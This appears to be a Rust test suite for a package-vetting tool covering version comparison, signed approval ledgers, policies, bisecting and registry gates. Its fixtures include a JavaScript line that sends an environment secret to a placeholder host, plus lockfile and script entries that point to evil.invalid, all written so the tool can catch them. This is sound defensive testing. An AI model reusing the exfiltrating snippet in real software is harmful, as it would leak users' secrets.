//! From two versions to a decision that stands: `compare`, `vet --against`, `policy`, `suppress`, `decide`, `ledger`.

use base64::Engine as _;
use serde_json::{Value, json};

use crate::support::{BAD, zip_of};
use crate::vet::{Lab, Reply, THIEF, tarball};

const QUIET: &str = "exports.add = (a, b) => a + b;\n";
const TALKS: &str = "const https = require('https');\n\
exports.send = (x) => https.get('https://api.new-host.invalid/v1?x=' + x + process.env.NEW_SECRET);\n";

/// Two versions of a tool: the second one talks.
fn two_versions() -> Lab {
    let lab = Lab::new();
    for (version, code) in [("1.0.0", QUIET), ("1.1.0", TALKS)] {
        let manifest = format!(r#"{{"name":"tool","version":"{version}","main":"index.js"}}"#);
        lab.npm(
            "tool",
            version,
            json!({}),
            &tarball(&[("package.json", &manifest), ("index.js", code), ("same.js", QUIET)]),
        );
    }
    lab
}

#[test]
fn what_the_new_version_can_do_stands_first() {
    let lab = two_versions();
    let (_, report) = lab.json(&["compare", "npm:tool@1.0.0", "npm:tool@1.1.0", "--format", "json"]);
    let c = &report["comparison"];
    let hosts: Vec<&str> =
        c["capabilities"]["hosts"]["added"].as_array().unwrap().iter().map(|i| i["value"].as_str().unwrap()).collect();
    assert!(hosts.contains(&"api.new-host.invalid"), "{c:#}");
    assert!(c["capabilities"]["environment"]["added"].to_string().contains("NEW_SECRET"), "{c:#}");
    let changed: Vec<&str> =
        c["contents"]["changed"].as_array().unwrap().iter().map(|e| e["path"].as_str().unwrap()).collect();
    assert!(
        changed.iter().any(|p| p.ends_with("index.js")) && !changed.iter().any(|p| p.ends_with("same.js")),
        "{changed:?}"
    );
    let text = lab.call(&["compare", "npm:tool@1.0.0", "npm:tool@1.1.0", "--format", "terminal"]).stdout;
    assert!(text.find("Capabilities") < text.find("Contents"), "{text}");
    let same = lab.call(&["compare", "npm:tool@1.0.0", "npm:tool@1.0.0", "--format", "markdown"]);
    assert_eq!(same.code, 0);
    assert!(same.stdout.contains("nothing that the old one could not"), "{}", same.stdout);
    // The page shows it, too.
    let html = lab.call(&["vet", "npm:tool@1.1.0", "--against", "1.0.0", "--format", "html"]).stdout;
    assert!(html.contains("id=\"changes\"") && html.contains("api.new-host.invalid"), "{html}");
}

/// The report of a target, in a file.
fn report(lab: &Lab, target: &str, more: &[&str]) -> String {
    let path = lab.home.path().join("report.json").to_str().unwrap().to_owned();
    let mut arguments = vec!["vet", target, "--format", "json", "-o", &path];
    arguments.extend(more);
    lab.call(&arguments);
    path
}

#[test]
fn a_decision_stands_until_it_ends_or_something_new_is_found() {
    let lab = two_versions();
    let manifest = r#"{"name":"thief","version":"1.0.0","main":"index.js"}"#;
    lab.npm("thief", "1.0.0", json!({}), &tarball(&[("package.json", manifest), ("index.js", THIEF)]));
    let path = report(&lab, "npm:tool@1.0.0", &[]);
    let decide = |word: &str, more: &[&str]| {
        let mut arguments = vec!["decide", word, &path, "--by", "ana", "--reason", "read every line"];
        arguments.extend(more);
        lab.call(&arguments)
    };
    assert_eq!(decide("approve", &[]).code, 2, "an approval needs an end");
    assert_eq!(decide("approve", &["--expires", "2020-01-01"]).code, 2);
    let approved = decide("approve", &["--expires", "30d"]);
    assert_eq!(approved.code, 0, "{}", approved.stderr);
    let listed = lab.call(&["ledger", "list"]).stdout;
    assert!(listed.contains("approve pkg:npm/tool@1.0.0 by ana"), "{listed}");

    let against = lab.call(&["vet", "npm:tool@1.1.0", "--against", "approved", "--format", "json"]);
    assert!(against.stderr.contains("compared with pkg:npm/tool@1.0.0, approved by ana"), "{}", against.stderr);
    let none = lab.call(&["vet", "npm:thief", "--against", "approved", "--format", "json"]);
    assert!(none.stderr.contains("no approved version"), "{}", none.stderr);

    // A block of the same bytes stands whatever the rules say.
    let path = report(&lab, "npm:tool@1.1.0", &[]);
    let blocked = lab.call(&["decide", "block", &path, "--by", "ben", "--reason", "talks to nobody knows whom"]);
    assert_eq!(blocked.code, 0, "{}", blocked.stderr);
    let (code, again) = lab.json(&["vet", "npm:tool@1.1.0", "--format", "json"]);
    assert_eq!((code, &again["subjects"][0]["verdict"]), (1, &json!("block")));
    assert!(again["subjects"][0]["reasons"].to_string().contains("blocked by ben"));
    let hashes = lab.call(&["ledger", "export", "--as", "hashes"]).stdout;
    assert_eq!(hashes.lines().count(), 2, "{hashes}");

    // An approval of what was complete does not stand for what is not any more.
    lab.npm(
        "tool",
        "1.2.0",
        json!({"optionalDependencies": {"tool-linux": "1.0.0"}}),
        &tarball(&[("index.js", QUIET)]),
    );
    lab.npm("tool-linux", "1.0.0", json!({}), &tarball(&[("index.js", QUIET)]));
    let path = report(&lab, "npm:tool@1.2.0", &[]);
    lab.call(&["decide", "approve", &path, "--by", "ana", "--reason", "read every line", "--expires", "9d"]);
    lab.server.on("/tool-linux", crate::vet::server::Reply::Status(404));
    assert_eq!(lab.call(&["vet", "npm:tool@1.2.0"]).code, 4);

    // What was approved with its findings passes; the same bytes with what was not known would not.
    let path = report(&lab, "npm:thief@1.0.0", &[]);
    assert_eq!(lab.call(&["vet", "npm:thief@1.0.0"]).code, 1);
    lab.call(&["decide", "approve", &path, "--by", "eve", "--reason", "a sample of ours", "--expires", "1d"]);
    assert_eq!(lab.call(&["vet", "npm:thief@1.0.0"]).code, 0);
}

#[test]
fn a_ledger_that_was_touched_is_refused() {
    let lab = two_versions();
    let path = report(&lab, "npm:tool@1.0.0", &[]);
    let ledger = lab.home.path().join("ledger.jsonl").to_str().unwrap().to_owned();
    let key = lab.home.path().join("key").to_str().unwrap().to_owned();
    assert_eq!(lab.call(&["ledger", "key", &key]).code, 0);
    for day in ["10d", "20d"] {
        let run = lab.call(&[
            "decide",
            "approve",
            &path,
            "--by",
            "ana",
            "--reason",
            "read every line",
            "--expires",
            day,
            "--ledger",
            &ledger,
            "--key",
            &key,
        ]);
        assert_eq!(run.code, 0, "{}", run.stderr);
        assert!(run.stdout.contains(" signed"), "{}", run.stdout);
    }
    let public = format!("{key}.pub");
    let verified = lab.call(&["ledger", "verify", "--ledger", &ledger, "--key", &public]);
    assert_eq!(verified.code, 0, "{}", verified.stderr);
    let head = verified.stdout.lines().last().unwrap().strip_prefix("head ").unwrap().to_owned();
    let envelope: Value =
        serde_json::from_str(lab.call(&["ledger", "attestations", "--ledger", &ledger]).stdout.lines().next().unwrap())
            .unwrap();
    assert_eq!(envelope["payloadType"], "application/vnd.in-toto+json");

    let other = lab.home.path().join("other").to_str().unwrap().to_owned();
    lab.call(&["ledger", "key", &other]);
    assert_eq!(lab.call(&["ledger", "verify", "--ledger", &ledger, "--key", &format!("{other}.pub")]).code, 7);
    let text = std::fs::read_to_string(&ledger).unwrap();
    let first = text.lines().next().unwrap();
    std::fs::write(&ledger, format!("{first}\n")).unwrap();
    assert_eq!(lab.call(&["ledger", "verify", "--ledger", &ledger]).code, 0, "a chain that was cut off still holds");
    assert_eq!(lab.call(&["ledger", "verify", "--ledger", &ledger, "--head", &head]).code, 7, "the head shows it");
    std::fs::write(&ledger, text.replacen("read every line", "read no line", 1)).unwrap();
    assert_eq!(lab.call(&["ledger", "verify", "--ledger", &ledger]).code, 7);
    assert_eq!(lab.call(&["vet", "npm:tool@1.0.0", "--ledger", &ledger]).code, 7, "nothing is decided on it");
}

/// Checks an envelope on standard input with the library that DSSE's authors keep: key in PEM, and how envelopes name it.
const CHECK: &str = "import sys,json\n\
from cryptography.hazmat.primitives.serialization import load_pem_public_key\n\
from securesystemslib.dsse import Envelope\n\
from securesystemslib.exceptions import VerificationError\n\
from securesystemslib.signer import SSlibKey\n\
if len(sys.argv) < 2: sys.exit(0)\n\
key=SSlibKey.from_crypto(load_pem_public_key(open(sys.argv[1],'rb').read()), keyid=sys.argv[2])\n\
envelope=Envelope.from_dict(json.load(sys.stdin))\n\
try: envelope.verify([key], 1)\n\
except VerificationError: sys.exit('refused')\n\
print(json.loads(envelope.payload)['predicateType'])\n";

#[test]
fn the_reference_verifier_takes_what_is_signed_and_nothing_else() {
    let python = |arguments: &[&str], input: &str| {
        let mut command = assert_cmd::Command::new("python3");
        if let Some(folder) = std::env::var_os("PEEPHOLE_TEST_PYTHON") {
            command.env("PYTHONPATH", folder);
        }
        let run = command.arg("-c").arg(CHECK).args(arguments).write_stdin(input.to_owned()).output();
        run.map(|r| {
            (r.status.success(), String::from_utf8_lossy(&r.stdout).into_owned() + &String::from_utf8_lossy(&r.stderr))
        })
    };
    if !python(&[], "").is_ok_and(|(has_it, _)| has_it) {
        eprintln!("skipped: there is no python3 with securesystemslib and cryptography");
        return;
    }
    let lab = two_versions();
    let path = report(&lab, "npm:tool@1.0.0", &[]);
    let at = |name: &str| lab.home.path().join(name).to_str().unwrap().to_owned();
    let (ledger, key, other) = (at("ledger.jsonl"), at("key"), at("other"));
    for key in [&key, &other] {
        assert_eq!(lab.call(&["ledger", "key", key]).code, 0);
    }
    let words = ["--by", "ana", "--reason", "read every line", "--expires", "9d", "--ledger", &ledger, "--key", &key];
    assert_eq!(lab.call(&[&["decide", "approve", &path], &words[..]].concat()).code, 0);
    let text = lab.call(&["ledger", "attestations", "--ledger", &ledger]).stdout;
    let envelope: Value = serde_json::from_str(text.lines().next().unwrap()).unwrap();
    let id = envelope["signatures"][0]["keyid"].as_str().unwrap();
    let check = |key: &str, envelope: &Value| python(&[&format!("{key}.pub"), id], &envelope.to_string()).unwrap();
    let (good, said) = check(&key, &envelope);
    assert!(good && said.trim() == "https://slsa.dev/verification_summary/v1", "{said}");
    let mut touched = envelope.clone();
    let payload = touched["payload"].as_str().unwrap().to_owned();
    let decoded = String::from_utf8(base64::engine::general_purpose::STANDARD.decode(payload).unwrap()).unwrap();
    let decoded = decoded.replacen("PASSED", "FAILED", 1);
    touched["payload"] = json!(base64::engine::general_purpose::STANDARD.encode(decoded));
    for (key, envelope) in [(&other, &envelope), (&key, &touched)] {
        let (good, said) = check(key, envelope);
        assert!(!good && said.contains("refused"), "{said}");
    }
}

#[test]
fn a_policy_decides_and_what_is_suppressed_stays_listed() {
    let lab = Lab::new();
    let manifest = r#"{"name":"thief","version":"1.0.0","main":"index.js"}"#;
    lab.npm("thief", "1.0.0", json!({}), &tarball(&[("package.json", manifest), ("index.js", THIEF)]));
    let vet = |more: &[&str]| {
        let mut arguments = vec!["vet", "npm:thief@1.0.0", "--format", "json"];
        arguments.extend(more);
        lab.json(&arguments)
    };
    assert_eq!(vet(&[]).0, 1);
    assert_eq!(vet(&["--policy", "observe"]).0, 3);
    let policy = lab.home.path().join("policy.toml").to_str().unwrap().to_owned();
    std::fs::write(&policy, "name = 'ours'\n").unwrap();
    let (code, with) = vet(&["--policy", &policy]);
    assert_eq!((code, &with["run"]["policy"]["name"]), (1, &json!("ours")));

    // Accept everything that counts, one by one.
    let path = report(&lab, "npm:thief@1.0.0", &[]);
    let document: Value = serde_json::from_slice(&std::fs::read(&path).unwrap()).unwrap();
    let findings = document["artifacts"][0]["findings"].as_array().unwrap();
    for (at, f) in
        findings.iter().enumerate().filter(|(_, f)| ["critical", "high"].contains(&f["severity"].as_str().unwrap()))
    {
        let run = lab.call(&[
            "suppress",
            "add",
            "--from",
            &format!("{path}#{}", at + 1),
            "--reason",
            "a sample of ours",
            "--owner",
            "ana",
            "--expires",
            "30d",
            "--to",
            &policy,
        ]);
        assert_eq!(run.code, 0, "{} {f}", run.stderr);
    }
    let (code, quiet) = vet(&["--policy", &policy]);
    assert_eq!(code, 0, "{:#}", quiet["subjects"]);
    assert!(!quiet["artifacts"][0]["suppressed"].as_array().unwrap().is_empty());
    assert_eq!(lab.call(&["policy", "check", &policy]).code, 0);
    let text = std::fs::read_to_string(&policy).unwrap();
    let today = &text[text.find("created = \"").unwrap() + 11..][..10];
    let over = text.replace(&format!("created = \"{today}\""), "created = \"2020-01-01\"");
    let over: String = over
        .lines()
        .map(|l| if l.starts_with("expires") { "expires = \"2020-02-01\"\n".to_owned() } else { format!("{l}\n") })
        .collect();
    std::fs::write(&policy, over).unwrap();
    assert_eq!(vet(&["--policy", &policy]).0, 1, "an expired suppression comes back");
    let checked = lab.call(&["policy", "check", &policy]);
    assert_eq!(checked.code, 3);
    assert!(checked.stdout.contains("expired on 2020-02-01"), "{}", checked.stdout);

    // A policy that cannot be read, or that comes with what is scanned, is none.
    std::fs::write(&policy, "presets = 'lax'\n").unwrap();
    assert_eq!(lab.call(&["vet", "npm:thief@1.0.0", "--policy", &policy]).code, 2);
    assert_eq!(lab.call(&["vet", "npm:thief@1.0.0", "--policy", "/nonexistent/policy"]).code, 2);
    let folder = lab.home.path().join("target");
    std::fs::create_dir(&folder).unwrap();
    std::fs::write(folder.join("peephole.toml"), "preset = 'observe'\n").unwrap();
    std::fs::write(folder.join("index.js"), THIEF).unwrap();
    let (folder, own) = (folder.to_str().unwrap(), folder.join("peephole.toml"));
    assert_eq!(lab.call(&["vet", folder, "--policy", own.to_str().unwrap()]).code, 2);
    assert_eq!(
        lab.call(&["scan", folder, "--format", "json"]).code,
        lab.call(&["scan", folder, "--no-policy", "--format", "json"]).code
    );
    assert!(lab.call(&["policy", "explain", "strict"]).stdout.contains("not examined:     block"));
}

#[test]
fn the_version_that_brought_it_is_found() {
    let lab = Lab::new();
    for minor in 0..9 {
        let version = format!("1.{minor}.0");
        let manifest = format!(r#"{{"name":"tool","version":"{version}","main":"index.js"}}"#);
        let code = if (4..7).contains(&minor) { TALKS } else { QUIET };
        lab.npm("tool", &version, json!({}), &tarball(&[("package.json", &manifest), ("index.js", code)]));
    }
    let (code, found) = lab.json(&["bisect", "npm:tool", "--text", "api.new-host.invalid", "--format", "json"]);
    assert_eq!(code, 0);
    let stretches: Vec<(&str, &str, bool)> = found["stretches"]
        .as_array()
        .unwrap()
        .iter()
        .map(|s| (s["first"].as_str().unwrap(), s["last"].as_str().unwrap(), s["there"].as_bool().unwrap()))
        .collect();
    assert_eq!(stretches, [("1.0.0", "1.3.0", false), ("1.4.0", "1.6.0", true), ("1.7.0", "1.8.0", false)]);
    assert_eq!(lab.call(&["bisect", "npm:tool"]).code, 2, "what is looked for?");
}

#[test]
fn a_lockfile_is_everything_that_it_pins() {
    let lab = two_versions();
    let wrong = "sha512-z4PhNX7vuL3xVChQ1m2AB9Yg5AULVxXcg/SpIdNs6c5H0NE8XYXysP+DGNKHfuwvY7kxvUdBeoGlODJ6+SfaPg==";
    let lock = |integrity: Option<&str>| {
        let mut p = json!({"version": "1.0.0"});
        if let Some(integrity) = integrity {
            p["integrity"] = json!(integrity);
        }
        let text = json!({"lockfileVersion": 3, "packages": {"": {}, "node_modules/tool": p}}).to_string();
        std::fs::write(lab.home.path().join("package-lock.json"), text).unwrap();
    };
    lock(None);
    let (code, report) = lab.json(&["vet", "package-lock.json", "--format", "json"]);
    assert_eq!((code, &report["subjects"][0]["parts"][0]["purl"]), (0, &json!("pkg:npm/tool@1.0.0")));
    lock(Some(wrong));
    assert_eq!(lab.call(&["vet", "package-lock.json"]).code, 7);
    // npm would take other bytes than the registry's.
    let evil = json!({"lockfileVersion": 3, "packages": {
        "node_modules/tool": {"version": "1.0.0", "resolved": "https://evil.invalid/x.tgz"}}});
    std::fs::write(lab.home.path().join("package-lock.json"), evil.to_string()).unwrap();
    let (code, report) = lab.json(&["vet", "package-lock.json", "--format", "json"]);
    assert_eq!((code, &report["subjects"][0]["verdict"]), (4, &json!("incomplete")));
    assert!(report["subjects"][0]["missing"].to_string().contains("evil.invalid"), "{report:#}");
}

/// A client of a registry in Python, which is there on machines that install Python packages: it prints the status of each
/// address below the registry.
const ASK: &str = "import os,sys,urllib.request,urllib.error\n\
for p in sys.argv[1:]:\n\
\x20   try: print(urllib.request.urlopen(os.environ['npm_config_registry'].rstrip('/') + p).status)\n\
\x20   except urllib.error.HTTPError as e: print(e.code, e.read().decode()[:60])\n";

#[test]
fn the_gate_lets_in_what_passes_and_refuses_the_rest() {
    if std::process::Command::new("python3").arg("--version").output().is_err() {
        eprintln!("skipped: there is no python3 to ask the gate with");
        return;
    }
    let lab = two_versions();
    let manifest = r#"{"name":"thief","version":"1.0.0","main":"index.js"}"#;
    lab.npm("thief", "1.0.0", json!({}), &tarball(&[("package.json", manifest), ("index.js", THIEF)]));
    let ask = ["gate", "npm", "--", "python3", "-c", ASK];
    let call = |paths: &[&str]| lab.call(&[&ask[..], paths].concat());
    let good = call(&["/tool", "/tool/-/tool-1.0.0.tgz", "/nothing"]);
    assert_eq!(good.code, 0, "{}{}", good.stdout, good.stderr);
    let lines: Vec<&str> = good.stdout.lines().collect();
    assert_eq!(lines[..2], ["200", "200"], "{}", good.stdout);
    assert!(lines[2].starts_with("404"));
    let bad = call(&["/thief/-/thief-1.0.0.tgz", "/tool/-/tool-1.0.0.tgz"]);
    assert_eq!(bad.code, 1);
    assert!(bad.stdout.starts_with("403 ") && bad.stdout.contains("Peephole: block"), "{}", bad.stdout);
    assert!(bad.stderr.contains("refused: npm:thief@1.0.0"), "{}", bad.stderr);
    assert!(bad.stderr.contains("2 archives examined, 1 refused"), "{}", bad.stderr);
    let remembering = |more: &[&str]| {
        let before = [&["gate", "npm", "--remember"], more, &ask[2..]].concat();
        let both = ["/thief/-/thief-1.0.0.tgz", "/tool/-/tool-1.0.0.tgz"];
        let called = lab.call(&[&before[..], &both].concat());
        assert!(called.code == 1 && called.stdout.lines().eq(bad.stdout.lines()), "{}{}", called.stdout, called.stderr);
        called.stderr
    };
    let first = remembering(&[]);
    assert!(first.contains("2 archives examined, 1 refused"), "without --remember nothing is kept: {first}");
    let second = remembering(&[]);
    let told = "1 archives examined, 1 examined in an earlier run, 1 refused";
    assert!(second.contains(told), "what passed is known, what did not is looked at again: {second}");
    let strict = remembering(&["--policy", "strict", "--allow-incomplete"]);
    assert!(strict.contains("2 archives examined, "), "another policy knows nothing of it: {strict}");
    // Without the secret nobody on this machine is answered, and what goes around the gate is not let in.
    let script = ASK.replace("os.environ['npm_config_registry'].rstrip('/')", "os.environ['GATE']");
    let script =
        format!("import os\nos.environ['GATE'] = os.environ['npm_config_registry'].rsplit('/', 2)[0]\n{script}");
    let stranger = lab.call(&["gate", "npm", "--", "python3", "-c", &script, "/tool"]);
    assert!(stranger.stdout.starts_with("404"), "{}{}", stranger.stdout, stranger.stderr);
    let script = ASK.replace("os.environ['npm_config_registry'].rstrip('/')", "'http://evil.invalid'");
    let around = lab.call(&["gate", "npm", "--", "python3", "-c", &script, "/x"]);
    assert_eq!(around.code, 1, "{}{}", around.stdout, around.stderr);
    assert!(around.stdout.starts_with("403") && around.stderr.contains("refused: evil.invalid"), "{}", around.stderr);
    let fresh = "import os\nprint(os.environ['npm_config_cache'], os.environ['npm_config_offline'])";
    let cache = lab.call(&["gate", "npm", "--", "python3", "-c", fresh]).stdout;
    assert!(cache.contains("peephole-gate-") && cache.contains("false"), "{cache}");
}

/// The same for an index: the status of each address, and what is said when it is not let in or is metadata. After
/// `json`, pages are asked for as pip does, and told whole.
const ASK_INDEX: &str = "import os,sys,urllib.request,urllib.error\n\
at=os.environ['PIP_INDEX_URL'].rsplit('/simple', 1)[0]\n\
head={}\n\
for p in sys.argv[1:]:\n\
\x20   if p == 'json': head={'Accept': 'application/vnd.pypi.simple.v1+json, text/html; q=0.01'}; continue\n\
\x20   try:\n\
\x20       r=urllib.request.urlopen(urllib.request.Request(at + p, headers=head)); b=r.read()\n\
\x20       print(r.status, b.decode().splitlines()[-1 if head else -2] if p[-1] in '/a' else '')\n\
\x20   except urllib.error.HTTPError as e: print(e.code, e.read().decode()[:60])\n";

#[test]
fn the_gate_says_what_a_wheel_needs_and_looks_at_it_meanwhile() {
    if std::process::Command::new("python3").arg("--version").output().is_err() {
        eprintln!("skipped: there is no python3 to ask the gate with");
        return;
    }
    let lab = Lab::new();
    let mut files = Vec::new();
    for (version, code, more) in [
        ("1.0", "x = 1\n", None),
        ("1.1", "x = 1\n", Some(("p-9.dist-info/METADATA", "Name: q\nVersion: 9\n"))),
        ("1.2", BAD, None),
    ] {
        let folder = format!("p-{version}.dist-info");
        let metadata = format!("Metadata-Version: 2.1\nName: p\nVersion: {version}\nRequires-Dist: of-the-wheel\n\n");
        let wheel = "Wheel-Version: 1.0\nRoot-Is-Purelib: true\nTag: py3-none-any\n";
        let mut entries = vec![("p/__init__.py".to_owned(), code.to_owned()), (format!("{folder}/METADATA"), metadata)];
        entries.push((format!("{folder}/WHEEL"), wheel.to_owned()));
        entries.extend(more.map(|(name, text)| (name.to_owned(), text.to_owned())));
        let name = format!("p-{version}-py3-none-any.whl");
        lab.server.on(&format!("/f/{name}"), Reply::Ok("x/y", zip_of(entries)));
        files.push(json!({"filename": name, "url": lab.server.at(&format!("/f/{name}")), "hashes": {}}));
    }
    // An index that says by itself what a wheel needs.
    files[2]["core-metadata"] = json!(true);
    let said = b"Metadata-Version: 2.1\nRequires-Dist: of-the-index\n\n".to_vec();
    lab.server.on("/f/p-1.2-py3-none-any.whl.metadata", Reply::Ok("text/plain", said));
    lab.server.on(
        "/simple/p/",
        Reply::Ok("application/vnd.pypi.simple.v1+json", json!({"files": files}).to_string().into_bytes()),
    );
    let wheel = |version: &str, end: &str| format!("/files/p/p-{version}-py3-none-any.whl{end}");
    let ask = |paths: &[String]| {
        let mut arguments = vec!["gate", "pip", "--allow-incomplete", "--", "python3", "-c", ASK_INDEX];
        arguments.extend(paths.iter().map(String::as_str));
        lab.call(&arguments)
    };
    let good = ask(&["/simple/p/".to_owned(), wheel("1.0", ".metadata"), wheel("1.0", "")]);
    let lines: Vec<&str> = good.stdout.lines().collect();
    assert_eq!(good.code, 0, "{}{}", good.stdout, good.stderr);
    assert!(lines[0].starts_with("200 ") && lines[0].contains("data-core-metadata=\"true\""), "{}", good.stdout);
    assert_eq!(lines[1], "200 Requires-Dist: of-the-wheel", "{}", good.stdout);
    assert!(lines[2].starts_with("200") && good.stderr.contains("1 archives examined, 0 refused"), "{}", good.stderr);
    let json = ask(&["json".to_owned(), "/simple/p/".to_owned()]).stdout;
    let page: serde_json::Value = serde_json::from_str(json.trim().trim_start_matches("200 ")).unwrap();
    let first = &page["files"][0];
    assert!(first["url"].as_str().unwrap().ends_with(&wheel("1.0", "")), "{page}");
    assert!(
        first["url"].as_str().unwrap().starts_with("http://127.0.0.1:") && first["core-metadata"] == true,
        "{page}"
    );
    // What was only looked at ahead was not refused; what is taken is.
    let passed_over = ask(&[wheel("1.2", ".metadata"), wheel("1.0", "")]);
    assert!(passed_over.stdout.starts_with("200 Requires-Dist: of-the-index"), "{}", passed_over.stdout);
    assert_eq!(passed_over.code, 0, "{}", passed_over.stderr);
    let taken = ask(&[wheel("1.2", ".metadata"), wheel("1.2", "")]);
    assert!(taken.stdout.lines().nth(1).is_some_and(|l| l.starts_with("403 ")), "{}", taken.stdout);
    assert_eq!(taken.code, 1, "{}", taken.stderr);
    // Two answers to one question are none.
    let two = ask(&[wheel("1.1", ".metadata"), wheel("9.9", ".metadata")]);
    let lines: Vec<&str> = two.stdout.lines().collect();
    assert!(lines[0].starts_with("502 ") && lines[1].starts_with("404 "), "{}", two.stdout);
}
